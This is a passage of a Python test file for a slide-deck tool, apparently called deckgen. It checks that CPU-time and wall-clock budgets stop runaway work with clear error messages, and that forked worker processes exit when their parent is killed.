    run = run_measured([sys.executable, "-m", "deckgen", "check", "t.yaml"], tmp_path, env, BACKSTOP, _limits)
    assert run.code == 2, run.stderr
    assert run.stderr.startswith("t.yaml:4:12: slides[0].notes: stopped: the work this outline asks for used more than 2 s of CPU time"), run.stderr
    assert 2 <= run.cpu < 5, run.cpu


def test_the_wall_clock_budget_is_a_backstop_for_work_that_waits(tmp_path: Path):
    """Work that blocks uses no CPU time; the wall-clock deadline ends it, naming the budget.
    By default it is four times the CPU time and at least 30 s, so waiting for a core on a busy
    machine does not trip it; DECKGEN_WALL_BUDGET sets it."""
    from deckgen import budget

    script = (
        f"import sys, time\nsys.path.insert(0, {str(ROOT)!r})\n"
        "from deckgen import budget\n"
        "budget.run_bounded()\n"
        "budget.at('t.yaml:3:5: slides[0]')\n"
        "try:\n"
        "    time.sleep(30)\n"
        "except budget.BudgetExceeded as exc:\n"
        "    print(budget.message(exc.message), file=sys.stderr)\n"
        "    sys.exit(2)\n"
        "print('not stopped')\n"
    )
    env = dict(os.environ, DECKGEN_WALL_BUDGET="1")
    run = run_measured([sys.executable, "-c", script], tmp_path, env, BACKSTOP)
    assert run.code == 2, run.stdout + run.stderr
    assert run.stderr.strip() == "t.yaml:3:5: slides[0]: stopped: the work this outline asks for waited more than 1 s of wall-clock time (the wall-clock budget; DECKGEN_WALL_BUDGET sets it)"
    assert run.seconds < 10, run.seconds  # 1 s and the parent's grace, however busy: nothing to compute
    previous = {name: os.environ.pop(name, None) for name in ("DECKGEN_TIME_BUDGET", "DECKGEN_WALL_BUDGET")}
    try:
        os.environ["DECKGEN_TIME_BUDGET"] = "3"
        assert budget.settings()[2] == 30
        os.environ["DECKGEN_TIME_BUDGET"] = "20"
        assert budget.settings()[2] == 80
        os.environ.pop("DECKGEN_TIME_BUDGET")
        assert budget.settings() == (8.0, 768, 32.0)
    finally:
        for name, value in previous.items():
            os.environ.pop(name, None)
            if value is not None:
                os.environ[name] = value


def test_a_worker_ends_with_its_parent(tmp_path: Path):
    """What `--audience all`'s workers call when they start (budget.die_with_parent): a
    worker whose parent is killed with SIGKILL does not live on under init."""
    script = (
        "import os, sys, time\n"
        f"sys.path.insert(0, {str(ROOT)!r})\n"
        "from deckgen.budget import die_with_parent\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    die_with_parent()\n"
        "    time.sleep(60)\n"
        "    os._exit(0)\n"
        "print(pid, flush=True)\n"
        "time.sleep(60)\n"
    )
    parent = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    worker = int(parent.stdout.readline())
    time.sleep(0.5)  # the worker has asked for its signal
    parent.kill()
    parent.wait()
    for _ in range(50):
        try:
            os.kill(worker, 0)
        except ProcessLookupError:
            return
        with open(f"/proc/{worker}/stat") as stat:
            if stat.read().split(") ", 1)[1].startswith("Z"):
                return  # dead, waiting for init to reap it
        time.sleep(0.1)
    os.kill(worker, 9)
    pytest.fail("the worker outlived its parent")
